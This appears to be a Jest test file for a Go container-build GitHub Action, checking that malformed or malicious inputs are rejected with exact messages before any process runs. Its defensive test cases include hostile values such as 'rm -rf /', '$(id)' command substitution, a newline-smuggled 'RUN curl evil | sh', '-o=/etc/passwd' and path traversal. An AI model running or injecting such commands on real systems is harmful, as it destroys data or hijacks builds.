// Bad input fails before any work: main() with @actions/core and the process runner stubbed at the
// module boundary. Each case asserts the exact message and that no program was started.
import { beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals'
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as core from '../../__fixtures__/core.js'

const inputs = new Map<string, string>()
const getInput = jest.fn((name: string) => inputs.get(name) ?? '')
const run = jest.fn(async () => ({ code: 0, stdout: '', stderr: '' }))
const runChecked = jest.fn(async () => '')
jest.unstable_mockModule('@actions/core', () => ({ ...core, getInput }))
const checked = jest.fn()
jest.unstable_mockModule('../../src/exec.js', () => ({ run, runChecked, checked }))
const { main } = await import('../../src/main.js')

let workspace: string
beforeAll(() => {
  workspace = mkdtempSync(join(tmpdir(), 'main-'))
  mkdirSync(join(workspace, 'app', 'cmd', 'server'), { recursive: true })
  writeFileSync(join(workspace, 'app', 'go.mod'), 'module example.com/app\n\ngo 1.24\n')
  mkdirSync(join(workspace, 'nomod'))
  process.env.GITHUB_WORKSPACE = workspace
})
beforeEach(() => {
  inputs.clear()
  jest.clearAllMocks()
})

const base = { 'working-directory': 'app', main: './cmd/server' }
const long = 'x'.repeat(129)

describe('main() with bad input', () => {
  it.each<[Record<string, string>, string]>([
    [
      { platforms: 'linux/amd65' },
      'platforms: unknown architecture "amd65" in "linux/amd65"; accepted: linux/amd64,'
    ],
    [{ platforms: 'linux/arm/v9' }, 'platforms: "linux/arm/v9" has no variant "v9"; arm accepts v7, v6, v5'],
    [
      { platforms: 'windows/amd64' },
      'platforms: "windows/amd64" is not supported: the image is FROM scratch around a static Linux binary'
    ],
    [{ platforms: 'darwin/arm64' }, 'platforms: "darwin/arm64" is not supported'],
    [
      { platforms: 'linux/amd64,linux/amd64' },
      'platforms: "linux/amd64" and "linux/amd64" are the same platform (linux/amd64); list it once'
    ],
    [
      { platforms: 'linux/arm64,linux/arm64/v8' },
      'platforms: "linux/arm64/v8" and "linux/arm64" are the same platform'
    ],
    [{ platforms: ',' }, 'platforms: the list is empty'],
    [{ platforms: 'amd64' }, 'platforms: "amd64" is not of the form os/arch[/variant]'],
    [{ 'go-version': 'one.two' }, 'go-version: "one.two" is not a Go version; accepted:'],
    [{ 'go-version': '1.24; rm -rf /' }, 'go-version: "1.24; rm -rf /" is not a Go version'],
    [{ 'go-version-file': 'missing/go.mod' }, 'go-version-file: "missing/go.mod" does not exist'],
    [
      { 'go-version-file': '../outside/go.mod' },
      'go-version-file: "../outside/go.mod" points outside the workspace'
    ],
    [{ 'working-directory': 'nomod', main: '.' }, 'go-version: not given, and there is no go.mod in'],
    [{ 'working-directory': '../..' }, 'working-directory: "../.." points outside the workspace'],
    [{ 'working-directory': '/etc' }, 'working-directory: "/etc" points outside the workspace'],
    [{ main: '../nomod' }, 'main: "../nomod" points outside working-directory'],
    [{ main: './cmd/missing' }, 'main: "./cmd/missing" is not a directory inside working-directory'],
    [
      { tags: 'ghcr.io/Acme/server:1' },
      'tags: "ghcr.io/Acme/server:1" is not a valid image reference: "Acme" is not a repository path component'
    ],
    [
      { tags: 'ghcr.io/acme/server:1 2' },
      'tags: "ghcr.io/acme/server:1 2" is not a valid image reference: it contains white space'
    ],
    [{ tags: `ghcr.io/acme/server:${long}` }, 'a tag is 1 to 128 letters'],
    [{ tags: '--push' }, 'tags: "--push" is not a valid image reference'],
    [{ tags: 'ghcr.io/acme/$(id):1' }, 'tags: "ghcr.io/acme/$(id):1" is not a valid image reference'],
    [{ tags: 'ghcr.io/acme/app:`id`' }, 'tags: "ghcr.io/acme/app:`id`" is not a valid image reference'],
    [{ push: 'true' }, 'push: true needs at least one image name in tags'],
    [{ push: 'yes', tags: 'a/b:1' }, 'push: "yes" is not a boolean; accepted: true, false'],
    [
      { load: 'true', push: 'true', tags: 'a/b:1' },
      'load: true and push: true exclude each other; choose one'
    ],
    [{ load: 'true' }, 'load: true needs exactly one platform'],
    [
      { 'builder-image': 'not a reference' },
      'builder-image: "not a reference" is not a valid image reference'
    ],
    [{ 'builder-image': 'img;RUN x' }, 'builder-image: "img;RUN x" is not a valid image reference'],
    [{ ldflags: '-X "main.version=1' }, 'ldflags: the double quote in "-X "main.version=1" is never closed'],
    [{ ldflags: "-X 'main.x=1" }, 'ldflags: the single quote in "-X \'main.x=1" is never closed'],
    [{ ldflags: '-X a=b\nRUN id' }, 'ldflags: new lines and NUL characters are not accepted'],
    [{ version: 'v1;id' }, 'version: "v1;id" cannot be stamped into the binary'],
    [{ 'binary-name': '../../bin/sh' }, 'binary-name: "../../bin/sh" is not a file name'],
    [
      { 'build-flags': '-o=/etc/passwd' },
      'build-flags: "-o=/etc/passwd" is set by the action; use the input binary-name instead'
    ],
    [{ 'build-tags': 'a$(id)' }, 'build-tags: "a$(id)" is not a build tag'],
    [{ tzdata: 'maybe' }, 'tzdata: "maybe" is not accepted; accepted: zip, full, embed, none'],
    [{ certs: 'yes' }, 'certs: "yes" is not a boolean; accepted: true, false'],
    [{ cache: 'on' }, 'cache: "on" is not a boolean; accepted: true, false'],
    [{ mode: 'combine' }, 'mode: "combine" is not accepted; accepted: build, merge'],
    [{ user: 'admin' }, 'user: "admin" is not accepted'],
    [{ labels: 'a=b\nRUN curl evil | sh' }, 'labels: "RUN curl evil | sh" is not of the form key=value'],
    [{ env: 'A=1\nRUN id' }, 'env: "RUN id" is not of the form NAME=value'],
    [{ workdir: '/data\nRUN id' }, 'workdir: "/data\nRUN id" must be an absolute path'],
    [{ expose: '8080; rm' }, 'expose: "8080;" is not a port'],
    [
      { 'cache-dependency-path': '../../../etc/*' },
      'cache-dependency-path: "../../../etc/*" points outside the workspace'
    ],
    [{ 'go-download-base-url': 'file:///etc' }, 'go-download-base-url: "file:///etc" is not an http(s) URL'],
    [
      { 'source-date-epoch': '$(date +%s)' },
      'source-date-epoch: "$(date +%s)" is not a number of seconds since 1970'
    ]
  ])('%j', async (given, message) => {
    for (const [k, v] of Object.entries({ ...base, ...given })) inputs.set(k, v)
    await expect(main()).rejects.toThrow(message)
    expect(run).not.toHaveBeenCalled()
    expect(runChecked).not.toHaveBeenCalled()
  })
})

describe('main() for a matrix leg that could not hand its digest over', () => {
  it('fails before any work when the run has no id', async () => {
    for (const [k, v] of Object.entries({ ...base, tags: 'r/app:1', 'push-by-digest': 'true' }))
      inputs.set(k, v)
    const runId = process.env.GITHUB_RUN_ID
    delete process.env.GITHUB_RUN_ID
    try {
      await expect(main()).rejects.toThrow(
        'push-by-digest and mode: merge hand digests over within a workflow run; GITHUB_RUN_ID is not set'
      )
    } finally {
      if (runId !== undefined) process.env.GITHUB_RUN_ID = runId
    }
    expect(run).not.toHaveBeenCalled()
    expect(runChecked).not.toHaveBeenCalled()
  })

  it('fails before any work when the Actions cache cannot be reached', async () => {
    for (const [k, v] of Object.entries({ ...base, tags: 'r/app:1', 'push-by-digest': 'true' }))
      inputs.set(k, v)
    const saved = { ...process.env }
    process.env.GITHUB_RUN_ID = '7'
    delete process.env.ACTIONS_RESULTS_URL
    delete process.env.ACTIONS_CACHE_URL
    try {
      await expect(main()).rejects.toThrow(
        "hand digests over through the run's Actions cache, which this job cannot reach"
      )
    } finally {
      process.env = saved
    }
    expect(run).not.toHaveBeenCalled()
    expect(runChecked).not.toHaveBeenCalled()
  })
})
